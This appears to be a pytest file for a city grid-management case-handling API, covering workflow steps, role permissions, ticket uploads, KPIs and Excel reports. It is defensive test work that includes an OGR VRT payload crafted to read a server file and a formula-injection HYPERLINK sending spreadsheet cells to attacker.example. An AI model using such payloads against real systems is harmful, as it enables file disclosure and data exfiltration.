"""Cases through the API (#17): report (idempotent by client_id), list with filters and pages,
a case with its timeline and the steps the signed-in user may take, steps with the ETag (428,
412, 400), out of order (422 naming the next), the handler may not verify; who sees and moves
which case (worker, leader, department, planner); 12345 tickets uploaded as the command line
imports them; the KPIs equal the command line's."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, date, datetime, timedelta

import httpx
import pytest

from gis import access, datasets, db
from gis.cases import workflow
from gis.importing import import_package
from tests.conftest import scalar
from tests.test_tickets import _rows, tickets_csv

GRID_1, GRID_2 = "110105015001001", "110105015001002"


@pytest.fixture(scope="module")
def place(database_url, make_user):
    """A copy of Huamao, a worker of grid 001 and one of 002, a leader, a planner, a department
    (sanitation) user, and a point inside each of the two grids."""
    slug = f"casesapi-{uuid.uuid4().hex[:8]}"
    conn = db.connect(database_url)
    with db.transaction(conn) as cur:
        import_package(cur, datasets.dataset_path("huamao"), slug)
        cur.execute("SELECT g.code, ST_X(p), ST_Y(p) FROM grid g JOIN jurisdiction j ON j.id = g.jurisdiction_id,"
                    " ST_PointOnSurface(g.geom) p WHERE j.slug = %s AND g.code IN (%s, %s)", (slug, GRID_1, GRID_2))
        points = {code: [x, y] for code, x, y in cur.fetchall()}
    conn.close()
    tag = uuid.uuid4().hex[:6]
    names = {"worker": f"w1-{tag}", "worker2": f"w2-{tag}", "leader": f"lead-{tag}", "planner": f"plan-{tag}",
             "department": f"dept-{tag}"}
    tokens = {"worker": make_user("worker", slug, GRID_1, username=names["worker"]),
              "worker2": make_user("worker", slug, GRID_2, username=names["worker2"]),
              "leader": make_user("leader", slug, username=names["leader"]),
              "planner": make_user("planner", slug, username=names["planner"]),
              "department": make_user("department", slug, username=names["department"], department="sanitation")}
    return {"slug": slug, "points": points, "tokens": tokens, "names": names}


def as_(server, place, who):
    return httpx.Client(base_url=server, timeout=30, headers={"Authorization": f"Bearer {place['tokens'][who]}"})


def report(c, place, grid=GRID_1, **kw):
    body = {"category": "garbage", "description": "垃圾桶满溢", "at": {"type": "Point",
                                                                    "coordinates": place["points"][grid]}} | kw
    return c.post(f"/cases/{place['slug']}", json=body)


def move(c, place, case, to, **kw):
    return c.post(f"/cases/{place['slug']}/{case['id']}/transitions", json={"to": to, **kw},
                  headers={"If-Match": case["etag"]})


def fingerprint(conn, slug):
    return scalar(conn, "SELECT row((SELECT count(*) FROM case_record c JOIN jurisdiction j ON j.id ="
                        " c.jurisdiction_id WHERE j.slug = %s), (SELECT coalesce(sum(version), 0) FROM case_record),"
                        " (SELECT count(*) FROM case_event), (SELECT count(*) FROM history))::text", slug)


def test_a_case_from_reported_to_closed(server, place, conn):
    slug = place["slug"]
    with as_(server, place, "worker") as w, as_(server, place, "leader") as lead:
        cid = str(uuid.uuid4())
        r = report(w, place, client_id=cid, urgency="red")
        assert r.status_code == 201, r.text
        case = r.json()
        assert case["created"] and case["state"] == "reported" and case["grid"] == GRID_1
        assert case["reporter"] == place["names"]["worker"] and r.headers["etag"] == case["etag"]
        assert case["actions"] == []  # a worker does not accept
        # the same client_id again: the same case, nothing written
        before = fingerprint(conn, slug)
        again = report(w, place, client_id=cid, description="another text")
        assert again.status_code == 200 and again.json()["id"] == case["id"] and not again.json()["created"]
        assert fingerprint(conn, slug) == before
        # whom the leader may dispatch to, by name: the grid's workers and accounts among them
        people = lead.get(f"/cases/{slug}/assignees").json()
        mine = [p for p in people if p["grid"] == GRID_1]
        assert {"name": place["names"]["worker"], "grid": GRID_1, "kind": "account_worker"} in mine, people
        assert {"name": "王芳", "grid": GRID_1, "kind": "grid_leader"} in mine  # the grid's leader
        assert all(p["name"] for p in people) and w.get(f"/cases/{slug}/assignees").status_code == 403
        # the leader sees the steps a leader may take
        seen = lead.get(f"/cases/{slug}/{case['id']}").json()
        assert seen["actions"] == ["accepted", "rejected"] and seen["events"][0]["to"] == "reported"
        # without If-Match, with a malformed one, with a stale one
        url = f"/cases/{slug}/{case['id']}/transitions"
        assert lead.post(url, json={"to": "accepted"}).status_code == 428
        assert lead.post(url, json={"to": "accepted"}, headers={"If-Match": '"grid-1-1"'}).status_code == 400
        # digits Python calls digits and int() refuses (a 500)
        superscript = f'"case_record-{case["id"]}-³"'.encode("latin-1")
        assert lead.post(url, json={"to": "accepted"}, headers={"If-Match": superscript}).status_code == 400
        stale = lead.post(url, json={"to": "accepted"}, headers={"If-Match": f'"case_record-{case["id"]}-9"'})
        assert stale.status_code == 412 and stale.json()["current_version"] == case["version"]
        # out of order: 422 naming the next allowed
        r = move(lead, place, case, "closed")
        assert r.status_code == 422 and "next allowed: accepted, rejected" in r.json()["detail"]
        assert fingerprint(conn, slug) == before
        # accepted, and dispatched at once to the worker account of the grid
        r = move(lead, place, case, "accepted")
        assert r.status_code == 200, r.text
        case = r.json()
        assert case["state"] == "dispatched" and case["assignee"] == place["names"]["worker"]
        assert case["actions"] == ["parked"]  # the leader does not handle it
        case = w.get(f"/cases/{slug}/{case['id']}").json()
        assert case["actions"] == ["handled"]
        # the worker may not park it, nor handle it without saying what was done
        assert move(w, place, case, "parked", note="x", review_on="2099-01-01").status_code == 403
        r = move(w, place, case, "handled")
        assert r.status_code == 422 and "what was done" in r.json()["detail"]
        case = move(w, place, case, "handled", note="清运完毕").json()
        assert case["state"] == "handled" and case["handled_by"] == place["names"]["worker"]
        # the handler does not verify: refused, nothing written
        before = fingerprint(conn, slug)
        assert move(w, place, case, "verified").status_code in (403, 422)
        assert fingerprint(conn, slug) == before
        case = move(lead, place, case, "verified").json()
        case = move(lead, place, case, "closed", note="居民确认").json()
        assert case["state"] == "closed" and case["actions"] == [] and case["next"] == []
        assert [e["to"] for e in case["events"]] == ["reported", "accepted", "dispatched", "handled", "verified",
                                                    "closed"]
        assert [e["actor"] for e in case["events"]][1:] == [place["names"][k] for k in (
            "leader", "leader", "worker", "leader", "leader")]
        # the resident called back (回访): what the resolution and satisfaction rates count
        back = f"/cases/{slug}/{case['id']}/feedback"
        assert case["may_call_back"] and not w.get(f"/cases/{slug}/{case['id']}").json()["may_call_back"]
        assert w.post(back, json={"satisfaction": "satisfied"}).status_code == 403  # the leader's to record
        empty = lead.post(back, json={}, headers={"Accept-Language": "zh"})
        assert empty.status_code == 422 and "满意度" in empty.json()["detail"], empty.text
        assert lead.post(back, json={"satisfaction": "glad"}).status_code == 422
        r = lead.post(back, json={"satisfaction": "basically", "solved": True})
        assert r.status_code == 200 and (r.json()["satisfaction"], r.json()["solved"]) == ("basically", True), r.text
        assert r.headers["etag"] == r.json()["etag"]
        assert scalar(conn, "SELECT row(satisfaction, solved)::text FROM case_record WHERE id = %s",
                      case["id"]) == "(basically,t)"
        early = report(w, place).json()  # not handled: nothing to ask about
        refused = lead.post(f"/cases/{slug}/{early['id']}/feedback", json={"solved": False},
                            headers={"Accept-Language": "zh"})
        assert refused.status_code == 422 and "没有可回访的处置" in refused.json()["detail"], refused.text
        # a 12345 ticket's answer is the platform's (its call-back file): never overwritten by the leader judged on it
        ticket = report(lead, place, source="hotline", ticket_no=f"T-{uuid.uuid4().hex[:8]}").json()
        for to, who in (("accepted", lead), ("handled", w)):
            ticket = move(who, place, w.get(f"/cases/{slug}/{ticket['id']}").json() if who is w else ticket, to,
                          note="已处理").json()
        assert ticket["state"] == "handled" and not lead.get(f"/cases/{slug}/{ticket['id']}").json()["may_call_back"]
        own = lead.post(f"/cases/{slug}/{ticket['id']}/feedback", json={"satisfaction": "satisfied"},
                        headers={"Accept-Language": "zh"})
        assert own.status_code == 422 and "12345 工单" in own.json()["detail"], own.text
        assert scalar(conn, "SELECT satisfaction FROM case_record WHERE id = %s", ticket["id"]) is None


def test_the_leader_who_handled_may_not_verify(server, place, conn):
    with as_(server, place, "leader") as lead:
        case = report(lead, place, grid=GRID_2).json()
        case = move(lead, place, case, "accepted", assignee=place["names"]["leader"]).json()
        assert case["assignee"] == place["names"]["leader"] and "handled" in case["actions"]
        case = move(lead, place, case, "handled", note="done myself").json()
        assert "verified" not in case["actions"] and "parked" in case["actions"]
        before = fingerprint(conn, place["slug"])
        r = move(lead, place, case, "verified")
        assert r.status_code == 422 and "may not verify it too" in r.json()["detail"]
        assert fingerprint(conn, place["slug"]) == before


def test_reporting_is_checked(server, place, conn):
    with as_(server, place, "worker2") as w, as_(server, place, "planner") as p:
        before = fingerprint(conn, place["slug"])
        outside = report(w, place, at={"type": "Point", "coordinates": [116.36, 39.91]})
        assert outside.status_code == 422 and "outside" in outside.json()["problems"][0]
        unknown = report(w, place, category="flying saucers")
        assert unknown.status_code == 422 and "categories are" in unknown.json()["detail"]
        assert report(w, place, at=None).status_code == 422  # nowhere
        squared = report(w, place, at=None, building="²")  # a digit to str.isdigit(), none to int(): a 500
        assert squared.status_code == 422 and "²" in squared.json()["detail"], squared.text
        assert report(p, place).status_code == 403  # planners read
        # a 12345 hotline case, its ticket number and a report dated weeks back are the leader's to enter: a
        # worker's made-up ticket would shadow the real one at the import, and the rates count from the time
        assert report(w, place, source="hotline").status_code == 403
        assert report(w, place, ticket_no="202612070200").status_code == 403
        month_ago = (datetime.now(UTC) - timedelta(days=30)).isoformat()
        backdated = report(w, place, reported_at=month_ago)
        assert backdated.status_code == 403 and "at most 7 days back" in backdated.json()["detail"], backdated.text
        naive = report(w, place, reported_at="2020-01-01T08:00:00")  # no offset: read in the server's zone, any day
        assert naive.status_code in (400, 422) and "reported_at" in naive.text, naive.text
        assert fingerprint(conn, place["slug"]) == before
        recent = report(w, place, reported_at=(datetime.now(UTC) - timedelta(days=2)).isoformat(),
                        client_id=str(uuid.uuid4()))
        assert recent.status_code == 201
        with as_(server, place, "leader") as lead:
            r = report(lead, place, source="hotline", ticket_no=f"T-{uuid.uuid4().hex[:8]}", reported_at=month_ago)
            assert r.status_code == 201 and r.json()["source"] == "hotline", r.text
        before = fingerprint(conn, place["slug"])
        # at a building, a worker names one of their grid only (they read no other: its name, its place and
        # whether it exists are not told); elsewhere they report at the point where they stand
        def building_of(grid):
            return scalar(conn, "SELECT min(b.id) FROM building b JOIN grid g ON g.id = b.grid_id JOIN jurisdiction j"
                                " ON j.id = b.jurisdiction_id WHERE j.slug = %s AND g.code = %s AND b.name IS NOT NULL",
                          place["slug"], grid)
        other_id, own_id = building_of(GRID_1), building_of(GRID_2)
        other_name = scalar(conn, "SELECT name FROM building WHERE id = %s", other_id)
        for named, unknown in ((other_id, 2_000_000_000), (other_name, "无此楼")):
            nowhere = report(w, place, at=None, building=unknown).json()["detail"]
            r = report(w, place, at=None, building=named)
            assert r.status_code == 422 and "lon" not in r.text and str(other_id) not in r.text.replace(
                str(named), ""), r.text
            assert r.json()["detail"].replace(str(named), "X") == nowhere.replace(str(unknown), "X")
        assert fingerprint(conn, place["slug"]) == before
        assert report(w, place, at=None, building=own_id).status_code == 201
        with as_(server, place, "leader") as lead:  # the leader names any
            assert report(lead, place, at=None, building=other_id).status_code == 201
        before = fingerprint(conn, place["slug"])
        # a worker reports anywhere in the jurisdiction, and sees what they reported
        r = report(w, place, grid=GRID_1, building=None)
        assert r.status_code == 201 and r.json()["grid"] == GRID_1
        assert r.json()["id"] in [c["id"] for c in w.get(f"/cases/{place['slug']}", params={"limit": 500}).json()[
            "cases"]]


def test_who_sees_which_case(server, place):
    slug = place["slug"]
    with as_(server, place, "worker") as w1, as_(server, place, "worker2") as w2, \
            as_(server, place, "leader") as lead, as_(server, place, "department") as dept, \
            as_(server, place, "planner") as plan:
        mine = report(w1, place, grid=GRID_1).json()
        theirs = report(lead, place, grid=GRID_2).json()
        every = lead.get(f"/cases/{slug}", params={"limit": 10000}).json()
        assert plan.get(f"/cases/{slug}", params={"limit": 10000}).json()["total"] == every["total"]
        w1_list = w1.get(f"/cases/{slug}", params={"limit": 10000}).json()
        assert 0 < w1_list["total"] < every["total"]
        assert all(c["grid"] == GRID_1 or place["names"]["worker"] in (c["reporter"], c["assignee"])
                   for c in w1_list["cases"])
        assert w1.get(f"/cases/{slug}/{theirs['id']}").status_code == 403
        assert w2.get(f"/cases/{slug}/{mine['id']}").status_code == 403
        assert plan.get(f"/cases/{slug}/{mine['id']}").json()["actions"] == []
        # the department sees only what is dispatched to it, and handles it
        assert all(c["department"] == "sanitation" for c in dept.get(f"/cases/{slug}").json()["cases"])
        assert dept.get(f"/cases/{slug}/{mine['id']}").status_code == 403
        case = move(lead, place, theirs, "accepted", department="sanitation").json()
        assert case["department"] == "sanitation" and case["assignee"] is None
        seen = dept.get(f"/cases/{slug}/{case['id']}").json()
        assert seen["actions"] == ["handled"]
        assert move(w2, place, case, "handled", note="x").status_code == 403  # not the worker's: the department's
        case = move(dept, place, seen, "handled", note="环卫所已清运").json()
        assert case["state"] == "handled" and case["actions"] == []


def test_lists_filter_and_page(server, place):
    slug = place["slug"]
    with as_(server, place, "leader") as lead:
        for urgency in ("red", "yellow"):
            report(lead, place, grid=GRID_2, category="noise", urgency=urgency, description="夜间施工噪音")
        noise = lead.get(f"/cases/{slug}", params={"category": "noise", "grid": GRID_2, "state": "reported"}).json()
        assert noise["total"] >= 2 and {c["category"] for c in noise["cases"]} == {"noise"}
        page = lead.get(f"/cases/{slug}", params={"category": "噪音", "limit": 1, "offset": 1}).json()
        assert len(page["cases"]) == 1 and page["cases"][0]["id"] == noise["cases"][1]["id"] or noise["total"] > 2
        overdue = lead.get(f"/cases/{slug}", params={"overdue": True, "limit": 10000}).json()
        assert overdue["total"] > 0 and all(c["overdue"] for c in overdue["cases"])  # the year of Huamao cases
        hotline = lead.get(f"/cases/{slug}", params={"source": "hotline", "limit": 5}).json()
        assert all(c["source"] == "hotline" for c in hotline["cases"])
        opened = lead.get(f"/cases/{slug}", params={"open": True, "limit": 10000}).json()
        assert all(c["state"] not in workflow.FINAL for c in opened["cases"])
        assert lead.get(f"/cases/{slug}", params={"state": "lost"}).status_code == 400
        cats = lead.get(f"/cases/{slug}/categories").json()
        assert {c["code"] for c in cats["categories"]} >= {"courier_parking", "ebike_charging", "garbage"}
        assert next(c for c in cats["categories"] if c["code"] == "garbage")["department"] == "sanitation"


def test_tickets_are_uploaded_as_the_command_line_imports_them(server, place, tmp_path, conn):
    slug = place["slug"]
    data = tickets_csv(tmp_path / "t.csv", _rows()).read_bytes()
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        url = f"/cases/{slug}/tickets"
        assert w.post(url, content=data, headers={"Content-Type": "text/csv"}).status_code == 403
        assert lead.post(url, content=data, headers={"Content-Type": "text/plain"}).status_code == 415
        r = lead.post(url, params={"crs": "gcj02"}, content=data, headers={"Content-Type": "text/csv"})
        assert r.status_code == 201, r.text
        got = r.json()
        assert len(got["created"]) == 5 and [t["ticket_no"] for t in got["not_ours"]] == ["T006"]
        before = fingerprint(conn, slug)
        again = lead.post(url, params={"crs": "gcj02"}, content=data, headers={"Content-Type": "text/csv"}).json()
        assert len(again["already_there"]) == 5 and not again["created"]
        assert fingerprint(conn, slug) == before
        bad = lead.post(url, content=b"\xff\xfe\x00garbage", headers={
            "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"})
        assert bad.status_code == 422 and "not an Excel workbook" in bad.json()["detail"]
        # an OGR VRT sent as a workbook would have GDAL read a file of the server's into the problems
        secret = tmp_path / "secret.csv"
        secret.write_text("secret-line\n")
        vrt = (f'<OGRVRTDataSource><OGRVRTLayer name="t"><SrcDataSource>CSV:{secret}</SrcDataSource>'
               '<SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>')
        ods = {"Content-Type": "application/vnd.oasis.opendocument.spreadsheet"}
        r = lead.post(url, content=vrt.encode(), headers=ods)
        assert r.status_code == 422 and "not an OpenDocument spreadsheet" in r.json()["detail"], r.text
        assert "secret-line" not in r.text
        r = lead.post(url, params={"encoding": "hex"}, content=data, headers={"Content-Type": "text/csv"})
        assert r.status_code == 422 and "unknown encoding hex" in r.json()["detail"], r.text
        # a file of more rows than one upload takes (each a case, in one transaction): refused whole
        from gis.limits import MAX_TICKET_ROWS

        header, first = data.decode("gbk").splitlines()[:2]
        rest = first.split(",", 1)[1]
        big = "\n".join([header] + [f"B{k:05d},{rest}" for k in range(MAX_TICKET_ROWS + 1)])
        r = lead.post(url, content=big.encode("gbk"), headers={"Content-Type": "text/csv", "Accept-Language": "en"})
        assert r.status_code == 422 and f"{MAX_TICKET_ROWS + 1} rows" in r.json()["detail"], r.text
        assert "command line" in r.json()["detail"]
        assert fingerprint(conn, slug) == before


def test_feedback_is_uploaded_onto_the_cases_and_a_bad_file_writes_nothing(server, place, tmp_path, conn):
    slug = place["slug"]
    tickets = tickets_csv(tmp_path / "t.csv", _rows()).read_bytes()
    with as_(server, place, "leader") as lead, as_(server, place, "planner") as planner:
        lead.post(f"/cases/{slug}/tickets", params={"crs": "gcj02"}, content=tickets,
                  headers={"Content-Type": "text/csv"})  # there already, or now
        url, csv = f"/cases/{slug}/feedback", {"Content-Type": "text/csv"}
        good = ("工单编号,满意度,是否解决,回访时间\nT001,满意,已解决,2025-03-09 10:00\nT003,基本满意,是,\n"
                "T999,满意,是,\n")
        assert planner.post(url, content=good.encode("gbk"), headers=csv).status_code == 403
        bad = "工单编号,满意度,是否解决\nT001,不满意,否\nT003,还行,也许\nT003,满意,是\n".encode("gbk")
        before = fingerprint(conn, slug)
        r = lead.post(url, content=bad, headers=csv)
        assert r.status_code == 422 and "nothing was written" in r.json()["detail"], r.text
        assert fingerprint(conn, slug) == before
        r = lead.post(url, content=good.encode("gbk"), headers=csv)
        assert r.status_code == 200, r.text
        got = r.json()
        assert [u["ticket_no"] for u in got["updated"]] == ["T001", "T003"]
        assert got["unknown"] == [{"row": 4, "ticket_no": "T999", "case": None}]
    with db.transaction(conn) as cur:
        cur.execute("SELECT ticket_no, satisfaction, solved, feedback_at FROM case_record c JOIN jurisdiction j"
                    " ON j.id = c.jurisdiction_id WHERE j.slug = %s AND ticket_no IN ('T001', 'T003') ORDER BY 1",
                    (slug,))
        (_, s1, ok1, at1), (_, s3, ok3, at3) = cur.fetchall()
    assert (s1, ok1, s3, ok3) == ("satisfied", True, "basically", True)
    assert at1.timestamp() == datetime(2025, 3, 9, 2, 0, tzinfo=UTC).timestamp()  # 10:00 in Beijing
    assert at3 is not None  # the call-back time, when the file gives none: now


def test_the_catalogue_is_edited_with_its_etags_and_kept_in_the_history(server, place, conn):
    slug = place["slug"]
    body = {"name_zh": "共享单车乱停", "name_en": "Shared bikes parked in disorder", "department": "traffic",
            "response_hours": 2, "red_hours": 4, "yellow_hours": 24, "blue_hours": 72}
    with as_(server, place, "leader") as lead, as_(server, place, "planner") as planner:
        url = f"/cases/{slug}/categories/shared_bikes"
        assert planner.put(url, json=body).status_code == 403
        assert planner.get(f"/cases/{slug}/categories").status_code == 200  # planners read
        r = lead.put(url, json=body)
        assert r.status_code == 201, r.text
        made = r.json()
        assert made["department"] == "traffic" and r.headers["etag"] == made["etag"] == \
            f'"case_category-{made["id"]}-1"'
        # the new category takes cases, with its limits
        case = report(lead, place, category="shared_bikes", urgency="red").json()
        assert case["category"] == "shared_bikes"
        before = scalar(conn, "SELECT count(*) FROM history WHERE table_name = 'case_category'")
        assert lead.put(url, json=body).status_code == 428  # it exists: name its version
        stale = lead.put(url, json=body, headers={"If-Match": f'"case_category-{made["id"]}-9"'})
        assert stale.status_code == 412
        for bad, words in [({**body, "red_hours": 48}, "red ≤ yellow ≤ blue"),
                           ({**body, "department": "nobody"}, "unknown department 'nobody'"),
                           ({**body, "blue_hours": 0}, "blue_hours")]:
            r = lead.put(url, json=bad, headers={"If-Match": made["etag"]})
            assert r.status_code in (400, 422) and words in r.text, (bad, r.text)
        assert scalar(conn, "SELECT count(*) FROM history WHERE table_name = 'case_category'") == before
        r = lead.put(url, json={**body, "department": None, "blue_hours": 96}, headers={"If-Match": made["etag"]})
        assert r.status_code == 200 and r.json()["version"] == 2 and r.json()["department"] is None, r.text
        assert scalar(conn, "SELECT count(*) FROM history WHERE table_name = 'case_category'") == before + 1
        assert lead.put(f"/cases/{slug}/categories/Bad-Code", json=body).status_code == 400
        # departments: created, renamed with the ETag, listed
        d = lead.put(f"/cases/{slug}/departments/shared_bikes_co", json={"name_zh": "共享单车企业",
                                                                          "name_en": "Bike-share operator"})
        assert d.status_code == 201, d.text
        r = lead.put(f"/cases/{slug}/departments/shared_bikes_co", json={"name_zh": "共享单车运营企业",
                     "name_en": "Bike-share operator"}, headers={"If-Match": d.json()["etag"]})
        assert r.status_code == 200 and r.json()["version"] == 2
        cat = lead.get(f"/cases/{slug}/categories").json()
        assert {"code": "shared_bikes_co", "name_zh": "共享单车运营企业"}.items() <= next(
            x for x in cat["departments"] if x["code"] == "shared_bikes_co").items()
        mine = next(x for x in cat["categories"] if x["code"] == "shared_bikes")
        assert mine["etag"] == f'"case_category-{made["id"]}-2"'


def test_the_numbers_are_the_command_lines(server, place, cli, auth):
    slug = place["slug"]
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        r = lead.get(f"/cases/{slug}/kpi", params={"from": "2025-01-01", "to": "2025-12-31",
                                                  "as_of": "2026-01-01T00:00:00+08:00"})
        assert r.status_code == 200, r.text
        assert w.get(f"/cases/{slug}/kpi", params={"from": "2025-01-01", "to": "2025-12-31"}).status_code == 403
    api = r.json()
    out = json.loads(cli("cases", "kpi", slug, "--from", "2025-01-01", "--to", "2025-12-31",
                         "--as-of", "2026-01-01 00:00", "--json").stdout)
    assert api["overall"]["received"] > 100
    for key in ("overall", "by_grid", "by_worker", "by_category"):
        assert json.dumps(api[key], sort_keys=True) == json.dumps(
            out[key], sort_keys=True) or _same(api[key], out[key]), key


def _same(a, b):
    """Equal but for the keys the API fills with null where the command line has none."""
    if isinstance(a, list):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b, strict=True))
    return {k: v for k, v in a.items() if v is not None or k in b} == b


def case_in(server, place, state):
    """A new case of grid 001 brought to ``state`` by the leader (and the grid's worker handling it)."""
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        case = report(lead, place, grid=GRID_1).json()
        if state == "reported":
            return case
        case = move(lead, place, case, "accepted").json()  # to the grid's worker account
        if state == "parked":
            return move(lead, place, case, "parked", note="等物业", review_on="2099-01-01").json()
        if state == "dispatched":
            return case
        case = move(w, place, case, "handled", note="done").json()
        return case if state == "handled" else move(lead, place, case, "verified").json()


@pytest.mark.parametrize("role", ["worker", "worker2", "planner", "department", "leader"])
@pytest.mark.parametrize("state", ["reported", "dispatched", "handled", "verified", "parked"])
def test_every_forbidden_step_writes_nothing(server, place, conn, role, state):
    """For a role and a case's state, every step the workflow allows next: one the role may not
    take is refused and writes nothing; one it may is taken (the first such, then the test stops)."""
    slug = place["slug"]
    case = case_in(server, place, state)
    assert case["state"] == state
    with as_(server, place, role) as c:
        seen = c.get(f"/cases/{slug}/{case['id']}")
        actions = seen.json()["actions"] if seen.status_code == 200 else []
        expected = {"worker": {"dispatched": ["handled"]}, "leader": {
            "reported": ["accepted", "rejected"], "dispatched": ["parked"], "handled": ["verified", "parked"],
            "verified": ["closed", "handled", "dispatched"], "parked": ["dispatched"]}}.get(role, {}).get(state, [])
        assert actions == expected
        for to in case["next"]:
            before = fingerprint(conn, slug)
            r = move(c, place, case, to, note="n", review_on="2099-01-01")
            if to in actions:
                assert r.status_code == 200, (to, r.text)
                break
            assert r.status_code == 403, (to, r.status_code, r.text)
            assert fingerprint(conn, slug) == before, to


def test_the_case_policy_is_pure():
    worker = access.Principal(1, "w", "worker", 7, "a", GRID_1, 11)
    dept = access.Principal(2, "d", "department", 7, "a", department="sanitation")
    leader = access.Principal(3, "l", "leader", 7, "a")
    case = {"id": 1, "state": "dispatched", "grid": GRID_1, "assignee": "王芳", "department": None,
            "reporter": "x", "handled_by": None}
    allowed = workflow.next_states("dispatched")
    assert access.case_steps(worker, case, allowed) == ("handled",)
    assert access.case_steps(dept, case, allowed) == ()
    assert access.case_steps(leader, case, allowed) == ("parked",)
    assert not access.sees_case(dept, case) and access.sees_case(worker, case)
    assert access.case_steps(worker, {**case, "grid": GRID_2}, allowed) == ()
    assert access.case_steps(dept, {**case, "assignee": None, "department": "sanitation"}, allowed) == ("handled",)
    with pytest.raises(access.Forbidden, match="dispatched to 王芳"):
        access.check_case_step(dept, {**case, "department": "sanitation"}, "handled", allowed)
    assert date.today()  # the module's dates are real ones


def test_hot_spots_count_the_cases_of_a_period_per_grid(server, place, conn):
    slug = place["slug"]
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        params = {"from": "2025-01-01", "to": "2025-12-31"}
        every = lead.get(f"/cases/{slug}/hotspots", params=params).json()
        ebikes = lead.get(f"/cases/{slug}/hotspots", params={**params, "category": "ebike_charging"}).json()
        assert w.get(f"/cases/{slug}/hotspots", params=params).status_code == 403
    assert len(every["features"]) == 4 and every["total"] == sum(
        f["properties"]["cases"] for f in every["features"]) + every["outside_grids"]
    assert every["total"] == scalar(conn, "SELECT count(*) FROM case_record c JOIN jurisdiction j ON j.id ="
                                          " c.jurisdiction_id WHERE j.slug = %s AND c.reported_at >= '2025-01-01"
                                          " 00:00+08' AND c.reported_at < '2026-01-01 00:00+08'", slug)
    for f in every["features"]:
        assert sum(f["properties"]["by_category"].values()) == f["properties"]["cases"]
    # e-bikes charged in buildings: the old compounds (grids 001-003), not the CBD towers (004)
    counts = {f["id"]: f["properties"]["cases"] for f in ebikes["features"]}
    assert ebikes["category"] == "ebike_charging" and sum(counts.values()) > 0
    assert counts["110105015001004"] < max(counts[g] for g in ("110105015001001", "110105015001002",
                                                               "110105015001003"))


def test_the_density_surface_puts_the_seeds_problems_where_they_are(server, place, conn):
    """Couriers crowd the courier zones and the towers' doors, e-bikes are charged in the old
    compounds: each category's highest places say so (the dataset's year of cases)."""
    slug = place["slug"]
    params = {"from": "2025-01-01", "to": "2025-12-31"}
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        assert w.get(f"/cases/{slug}/density", params=params).status_code == 403
        courier = lead.get(f"/cases/{slug}/density", params={**params, "category": "courier_parking"}).json()
        ebikes = lead.get(f"/cases/{slug}/density", params={**params, "category": "ebike_charging"})
        assert ebikes.status_code == 200, ebikes.text
        ebikes = ebikes.json()
        too_fine = lead.get(f"/cases/{slug}/density", params={**params, "cell": 2, "bandwidth": 2000})
        assert too_fine.status_code == 422 and "too many" in too_fine.json()["detail"]
    assert courier["cases"] > 50 and courier["features"] and len(courier["peaks"]) == 3
    assert max(f["properties"]["share"] for f in courier["features"]) == 1.0
    assert min(f["properties"]["share"] for f in courier["features"]) >= 0.05

    def near(peak, sql):
        return scalar(conn, "SELECT EXISTS (" + sql + ")", peak["lon"], peak["lat"], slug)

    towers_or_zones = ("SELECT 1 FROM jurisdiction j, ST_SetSRID(ST_MakePoint(%s, %s), 4326) p WHERE j.slug = %s"
                       " AND (EXISTS (SELECT 1 FROM building b WHERE b.jurisdiction_id = j.id AND b.kind IN"
                       " ('office', 'mall') AND ST_DWithin(b.geom::geography, p::geography, 40))"
                       " OR EXISTS (SELECT 1 FROM courier_zone z WHERE z.jurisdiction_id = j.id"
                       " AND ST_DWithin(z.geom::geography, p::geography, 40)))")
    old = ("SELECT 1 FROM jurisdiction j, ST_SetSRID(ST_MakePoint(%s, %s), 4326) p WHERE j.slug = %s AND EXISTS"
           " (SELECT 1 FROM compound c WHERE c.jurisdiction_id = j.id AND c.name IN ('电厂小区', '柴家湾小区',"
           " '住四小区') AND ST_DWithin(c.geom::geography, p::geography, 15))")
    for peak in courier["peaks"][:2]:
        assert near(peak, towers_or_zones), peak
    for peak in ebikes["peaks"]:
        assert near(peak, old), peak
    assert ebikes["max_density"] < courier["max_density"]  # couriers crowd a few doors; e-bikes are everywhere old


def test_the_monthly_report_as_excel_holds_the_kpi_numbers(server, place, cli, tmp_path):
    from openpyxl import load_workbook

    slug = place["slug"]
    params = {"from": "2025-03-01", "to": "2025-03-31"}
    with as_(server, place, "leader") as lead, as_(server, place, "worker") as w:
        assert w.get(f"/cases/{slug}/kpi.xlsx", params=params).status_code == 403
        r = lead.get(f"/cases/{slug}/kpi.xlsx", params=params)
        kpi = lead.get(f"/cases/{slug}/kpi", params=params).json()
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    path = tmp_path / "report.xlsx"
    path.write_bytes(r.content)
    book = load_workbook(path)
    assert book.sheetnames == ["总体", "按网格", "按处置人", "按类别", "事件明细"]
    overall = book["总体"]
    assert "接诉即办" in overall["A1"].value and "2025-03-01" in overall["A1"].value
    headings = [c.value for c in overall[3]]
    row = dict(zip(headings, [c.value for c in overall[4]], strict=True))
    assert row["受理量"] == kpi["overall"]["received"] > 0
    assert row["响应率"] == kpi["overall"]["response_rate"] and overall.cell(4, headings.index("响应率") + 1
                                                                          ).number_format == "0.0%"
    grids = book["按网格"]
    assert [grids.cell(r, 1).value for r in range(4, grids.max_row + 1)] == [g["grid"] for g in kpi["by_grid"]]
    assert book["事件明细"].max_row - 1 == kpi["overall"]["received"]
    # the command line writes the same workbook
    cli("cases", "kpi", slug, "--from", "2025-03-01", "--to", "2025-03-31", "--xlsx", str(tmp_path / "cli.xlsx"))
    assert load_workbook(tmp_path / "cli.xlsx")["总体"]["A1"].value == overall["A1"].value


def test_text_in_the_excel_report_is_never_a_formula(server, place):
    """A description typed by whoever reports reaches the leader's workbook as text: as a formula,
    Excel would run it on opening (a HYPERLINK sending the sheet's cells away)."""
    from io import BytesIO

    from openpyxl import load_workbook

    slug = place["slug"]
    formula = '=HYPERLINK("http://attacker.example/?"&B2&C2,"查看照片")'
    with as_(server, place, "leader") as lead:
        r = report(lead, place, description=formula, reported_at="2024-06-15T10:00:00+08:00")
        assert r.status_code == 201, r.text
